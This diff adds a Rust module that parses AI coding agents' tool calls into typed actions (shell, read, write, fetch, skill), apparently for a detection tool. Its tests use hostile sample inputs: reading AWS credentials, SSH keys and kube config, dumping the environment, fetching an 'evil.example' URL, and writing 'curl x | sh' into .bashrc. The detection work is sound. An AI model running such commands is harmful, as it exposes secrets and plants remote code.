@@ -1,0 +1,510 @@
+//! Tool calls understood per agent: what a span's tool call *does*.
+//!
+//! Claude Code `Bash`/`Read`/`Write`/`Edit`/`MultiEdit`/`Glob`/`Grep`/`WebFetch`/`Skill`,
+//! Codex `shell` (argv arrays like `["bash","-lc","…"]`), `exec_command`,
+//! `shell_command`, `local_shell_call`, `apply_patch` (raw patch text), OTel and
+//! Agents SDK function tools, and MCP tools `mcp__<server>__<tool>` all become a
+//! list of [`Action`]s; unknown tools are read generically from argument names
+//! (`command`, `path`, `url`...).
+
+use super::shell::{parse_argv, parse_script, Script};
+use super::taxonomy::Taxonomy;
+use crate::model::Span;
+use serde_json::Value;
+
+/// One thing a tool call does.
+#[derive(Debug, Clone, PartialEq)]
+pub enum Action {
+    /// A shell command line, parsed.
+    Shell {
+        text: String,
+        script: Script,
+    },
+    Read {
+        path: String,
+    },
+    Write {
+        path: String,
+        content: String,
+    },
+    /// Listing or globbing a folder.
+    List {
+        path: String,
+    },
+    /// Searching file contents (reads them).
+    Search {
+        path: String,
+    },
+    Fetch {
+        url: String,
+    },
+    /// Claude Code `Skill` tool: the skill's name.
+    Skill {
+        name: String,
+    },
+}
+
+/// What a tool call does, and whether its arguments leave the machine.
+#[derive(Debug, Clone, PartialEq, Default)]
+pub struct ToolCall {
+    /// Tool name as given.
+    pub tool: String,
+    /// `Some(server)` for MCP tools.
+    pub mcp_server: Option<String>,
+    pub actions: Vec<Action>,
+}
+
+impl ToolCall {
+    /// True when the tool's arguments are handed to something off this process:
+    /// a fetch, an MCP server, a shell command that connects somewhere.
+    pub fn is_mcp(&self) -> bool {
+        self.mcp_server.is_some()
+    }
+}
+
+const SHELL_TOOLS: &[&str] = &[
+    "bash",
+    "shell",
+    "exec_command",
+    "shell_command",
+    "local_shell_call",
+    "local_shell",
+    "run_shell_command",
+    "execute_command",
+    "run_command",
+    "terminal",
+    "run_terminal_cmd",
+    "container.exec",
+    "exec",
+    "execute_bash",
+    "bash_tool",
+    "cmd",
+    "run",
+    "execute",
+    "sh",
+    "run_in_terminal",
+    "powershell",
+];
+const READ_TOOLS: &[&str] = &[
+    "read",
+    "read_file",
+    "view",
+    "cat",
+    "open_file",
+    "readfile",
+    "view_file",
+    "notebookread",
+    "read_text_file",
+    "read_multiple_files",
+    "get_file_contents",
+];
+const WRITE_TOOLS: &[&str] = &[
+    "write",
+    "write_file",
+    "create_file",
+    "writefile",
+    "edit",
+    "multiedit",
+    "edit_file",
+    "str_replace",
+    "notebookedit",
+    "replace",
+    "str_replace_based_edit_tool",
+    "str_replace_editor",
+    "insert",
+    "append_file",
+    "save_file",
+    "create_or_update_file",
+    "push_files",
+];
+const LIST_TOOLS: &[&str] = &[
+    "glob",
+    "ls",
+    "list_dir",
+    "list_directory",
+    "list_files",
+    "directory_tree",
+    "find_files",
+];
+const SEARCH_TOOLS: &[&str] = &[
+    "grep",
+    "search",
+    "ripgrep",
+    "search_files",
+    "codebase_search",
+    "grep_search",
+];
+const PATH_KEYS: &[&str] = &[
+    "file_path",
+    "path",
+    "filepath",
+    "file",
+    "filename",
+    "notebook_path",
+    "target_file",
+    "absolute_path",
+    "source",
+    "dir",
+    "directory",
+    "paths",
+];
+const URL_KEYS: &[&str] = &[
+    "url",
+    "uri",
+    "endpoint",
+    "href",
+    "webhook",
+    "webhook_url",
+    "link",
+    "target_url",
+];
+const COMMAND_KEYS: &[&str] = &[
+    "command",
+    "cmd",
+    "script",
+    "commandline",
+    "command_line",
+    "shell_command",
+    "code_to_run",
+];
+const CONTENT_KEYS: &[&str] = &[
+    "content",
+    "new_string",
+    "new_str",
+    "text",
+    "file_text",
+    "insert_text",
+    "contents",
+];
+
+/// Reads a span's tool call; `None` when the span is not a tool call.
+pub fn understand(span: &Span, tax: &Taxonomy) -> Option<ToolCall> {
+    let tool = span
+        .tool_name
+        .clone()
+        .or_else(|| (span.kind == crate::model::SpanKind::Tool).then(|| span.name.clone()))?;
+    let input = span.tool_input.as_deref().unwrap_or("");
+    let json: Option<Value> = serde_json::from_str(input).ok();
+    let (mcp_server, short) = split_mcp(&tool);
+    let lname = short.to_ascii_lowercase();
+    let mut call = ToolCall {
+        tool: tool.clone(),
+        mcp_server,
+        actions: Vec::new(),
+    };
+    let obj = json.as_ref().and_then(Value::as_object);
+
+    if lname == "skill" {
+        if let Some(o) = obj {
+            for k in ["skill", "command", "name"] {
+                if let Some(n) = o.get(k).and_then(Value::as_str) {
+                    call.actions.push(Action::Skill {
+                        name: n.to_string(),
+                    });
+                    break;
+                }
+            }
+        }
+        return Some(call);
+    }
+    if lname == "apply_patch" || input.trim_start().starts_with("*** Begin Patch") {
+        let text = match obj {
+            Some(o) => o
+                .get("input")
+                .or_else(|| o.get("patch"))
+                .and_then(Value::as_str)
+                .unwrap_or(input)
+                .to_string(),
+            None => input.to_string(),
+        };
+        call.actions.extend(patch_actions(&text));
+        return Some(call);
+    }
+    if SHELL_TOOLS.contains(&lname.as_str()) {
+        match obj {
+            Some(o) => {
+                for k in COMMAND_KEYS {
+                    if let Some(v) = o.get(*k) {
+                        push_shell(&mut call.actions, v, tax);
+                    }
+                }
+                if let Some(a) = o.get("action").and_then(Value::as_object) {
+                    if let Some(v) = a.get("command") {
+                        push_shell(&mut call.actions, v, tax);
+                    }
+                }
+            }
+            None => match &json {
+                Some(v @ Value::Array(_)) => push_shell(&mut call.actions, v, tax),
+                _ if !input.trim().is_empty() => {
+                    push_shell(&mut call.actions, &Value::String(input.to_string()), tax)
+                }
+                _ => {}
+            },
+        }
+        return Some(call);
+    }
+    let is_fetch = tax.fetch_tools.contains(&lname);
+    if let Some(o) = obj {
+        if READ_TOOLS.contains(&lname.as_str())
+            || (lname == "str_replace_editor"
+                && o.get("command").and_then(Value::as_str) == Some("view"))
+        {
+            for p in paths_in(o) {
+                call.actions.push(Action::Read { path: p });
+            }
+            return Some(call);
+        }
+        if WRITE_TOOLS.contains(&lname.as_str()) {
+            let content = CONTENT_KEYS
+                .iter()
+                .filter_map(|k| o.get(*k).and_then(Value::as_str))
+                .collect::<Vec<_>>()
+                .join("\n");
+            for p in paths_in(o) {
+                call.actions.push(Action::Write {
+                    path: p,
+                    content: content.clone(),
+                });
+            }
+            return Some(call);
+        }
+        if LIST_TOOLS.contains(&lname.as_str()) {
+            for k in ["path", "pattern", "directory", "dir"] {
+                if let Some(p) = o.get(k).and_then(Value::as_str) {
+                    call.actions.push(Action::List {
+                        path: p.to_string(),
+                    });
+                }
+            }
+            return Some(call);
+        }
+        if SEARCH_TOOLS.contains(&lname.as_str()) {
+            for p in paths_in(o) {
+                call.actions.push(Action::Search { path: p });
+            }
+            return Some(call);
+        }
+        // Generic and MCP tools: read the arguments by name.
+        generic(
+            &mut call,
+            &lname,
+            &Value::Object(o.clone()),
+            tax,
+            0,
+            is_fetch,
+        );
+    } else if is_fetch {
+        for u in super::network::urls_in(input) {
+            call.actions.push(Action::Fetch { url: u });
+        }
+    }
+    Some(call)
+}
+
+/// `mcp__server__tool` → (Some(server), tool); anything else → (None, name).
+pub fn split_mcp(tool: &str) -> (Option<String>, String) {
+    if let Some(rest) = tool.strip_prefix("mcp__") {
+        if let Some((server, t)) = rest.split_once("__") {
+            return (Some(server.to_string()), t.to_string());
+        }
+    }
+    (None, tool.to_string())
+}
+
+fn push_shell(actions: &mut Vec<Action>, v: &Value, tax: &Taxonomy) {
+    match v {
+        Value::String(s) if !s.trim().is_empty() => actions.push(Action::Shell {
+            text: s.clone(),
+            script: parse_script(s, tax),
+        }),
+        Value::Array(a) => {
+            let argv: Vec<String> = a
+                .iter()
+                .filter_map(|x| x.as_str().map(str::to_string))
+                .collect();
+            if !argv.is_empty() {
+                actions.push(Action::Shell {
+                    text: argv.join(" "),
+                    script: parse_argv(&argv, tax),
+                });
+            }
+        }
+        _ => {}
+    }
+}
+
+fn paths_in(o: &serde_json::Map<String, Value>) -> Vec<String> {
+    let mut out = Vec::new();
+    for k in PATH_KEYS {
+        match o.get(*k) {
+            Some(Value::String(s)) if !s.is_empty() => out.push(s.clone()),
+            Some(Value::Array(a)) => {
+                out.extend(a.iter().filter_map(|x| x.as_str().map(str::to_string)))
+            }
+            _ => {}
+        }
+    }
+    out
+}
+
+fn generic(
+    call: &mut ToolCall,
+    lname: &str,
+    v: &Value,
+    tax: &Taxonomy,
+    depth: usize,
+    is_fetch: bool,
+) {
+    if depth > 4 {
+        return;
+    }
+    let writes = [
+        "write", "create", "save", "put", "edit", "update", "append", "upload",
+    ]
+    .iter()
+    .any(|w| lname.contains(w));
+    match v {
+        Value::Object(o) => {
+            for (k, val) in o {
+                let lk = k.to_ascii_lowercase();
+                if COMMAND_KEYS.contains(&lk.as_str()) {
+                    push_shell(&mut call.actions, val, tax);
+                } else if URL_KEYS.contains(&lk.as_str()) {
+                    if let Some(s) = val.as_str() {
+                        if s.contains("://") || is_fetch {
+                            call.actions.push(Action::Fetch { url: s.to_string() });
+                        }
+                    }
+                } else if PATH_KEYS.contains(&lk.as_str()) {
+                    let paths: Vec<String> = match val {
+                        Value::String(s) => vec![s.clone()],
+                        Value::Array(a) => a
+                            .iter()
+                            .filter_map(|x| x.as_str().map(str::to_string))
+                            .collect(),
+                        _ => Vec::new(),
+                    };
+                    for p in paths {
+                        if p.contains("://") {
+                            call.actions.push(Action::Fetch { url: p });
+                        } else if writes {
+                            call.actions.push(Action::Write {
+                                path: p,
+                                content: String::new(),
+                            });
+                        } else {
+                            call.actions.push(Action::Read { path: p });
+                        }
+                    }
+                } else if val.is_object() || val.is_array() {
+                    generic(call, lname, val, tax, depth + 1, is_fetch);
+                }
+            }
+        }
+        Value::Array(a) => {
+            for x in a.iter().take(64) {
+                generic(call, lname, x, tax, depth + 1, is_fetch);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Codex `apply_patch` text: every added or updated file is a write.
+fn patch_actions(text: &str) -> Vec<Action> {
+    let mut out: Vec<Action> = Vec::new();
+    let mut current: Option<(String, String)> = None;
+    for line in text.lines() {
+        let header = line
+            .strip_prefix("*** Add File: ")
+            .or_else(|| line.strip_prefix("*** Update File: "))
+            .or_else(|| line.strip_prefix("*** Move to: "));
+        if let Some(p) = header {
+            if let Some((path, content)) = current.take() {
+                out.push(Action::Write { path, content });
+            }
+            current = Some((p.trim().to_string(), String::new()));
+        } else if let Some(added) = line.strip_prefix('+') {
+            if let Some((_, c)) = current.as_mut() {
+                c.push_str(added);
+                c.push('\n');
+            }
+        }
+    }
+    if let Some((path, content)) = current {
+        out.push(Action::Write { path, content });
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::taxonomy::{DetectionConfig, Taxonomy};
+    use crate::model::{Origin, SpanKind};
+
+    fn call(tool: &str, input: &str) -> ToolCall {
+        let t = Taxonomy::load(&DetectionConfig::default()).expect("tax");
+        let mut s = Span::new("s", "r", SpanKind::Tool, tool, Origin::default());
+        s.tool_name = Some(tool.into());
+        s.tool_input = Some(input.into());
+        understand(&s, &t).expect("tool")
+    }
+
+    #[test]
+    fn per_agent_tools() {
+        let c = call(
+            "Bash",
+            r#"{"command":"cat ~/.aws/credentials","description":"x"}"#,
+        );
+        assert!(
+            matches!(&c.actions[0], Action::Shell { script, .. } if script.commands[0].name() == "cat")
+        );
+        let c = call(
+            "shell",
+            r#"{"command":["bash","-lc","env | sort"],"workdir":"/w"}"#,
+        );
+        assert!(
+            matches!(&c.actions[0], Action::Shell { script, .. } if script.commands.len() == 3)
+        );
+        let c = call("exec_command", r#"{"cmd":"ls -la","workdir":"/w"}"#);
+        assert!(matches!(&c.actions[0], Action::Shell { .. }));
+        let c = call("Read", r#"{"file_path":"/home/u/.ssh/id_rsa"}"#);
+        assert_eq!(
+            c.actions,
+            vec![Action::Read {
+                path: "/home/u/.ssh/id_rsa".into()
+            }]
+        );
+        let c = call(
+            "WebFetch",
+            r#"{"url":"https://evil.example/x","prompt":"summarise"}"#,
+        );
+        assert_eq!(
+            c.actions,
+            vec![Action::Fetch {
+                url: "https://evil.example/x".into()
+            }]
+        );
+        let c = call(
+            "apply_patch",
+            "*** Begin Patch\n*** Add File: /home/u/.bashrc\n+curl x | sh\n*** End Patch\n",
+        );
+        assert!(
+            matches!(&c.actions[0], Action::Write { path, content } if path == "/home/u/.bashrc" && content.contains("curl"))
+        );
+        let c = call("mcp__fs__read_text_file", r#"{"path":"~/.kube/config"}"#);
+        assert_eq!(c.mcp_server.as_deref(), Some("fs"));
+        assert!(matches!(&c.actions[0], Action::Read { .. }));
+        let c = call(
+            "mcp__slack__post_message",
+            r#"{"channel":"x","webhook_url":"https://hooks.slack.com/x"}"#,
+        );
+        assert!(matches!(&c.actions[0], Action::Fetch { .. }));
+        let c = call("run_python", r#"{"args":{"command":"printenv"}}"#);
+        assert!(matches!(&c.actions[0], Action::Shell { .. }));
+        let c = call("Skill", r#"{"skill":"pdf"}"#);
+        assert_eq!(c.actions, vec![Action::Skill { name: "pdf".into() }]);
+    }
+}
